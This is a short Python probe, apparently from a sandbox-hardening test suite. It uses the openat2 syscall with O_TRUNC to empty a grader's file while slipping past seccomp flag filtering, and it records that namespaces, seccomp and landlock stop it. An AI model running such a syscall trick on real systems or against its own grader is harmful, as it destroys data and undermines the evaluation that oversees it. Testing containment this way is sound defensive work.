"""Empties a file through openat2, whose flags no filter can see.

Loot: an empty file of the grader's
Stopped by: namespaces, seccomp, landlock
"""

import ctypes
import struct

how = ctypes.create_string_buffer(struct.pack("<QQQ", os.O_RDONLY | os.O_TRUNC, 0, 0))
if ctypes.CDLL(None).syscall(437, -100, VICTIM.encode(), how, 24) >= 0:
    loot("emptied")
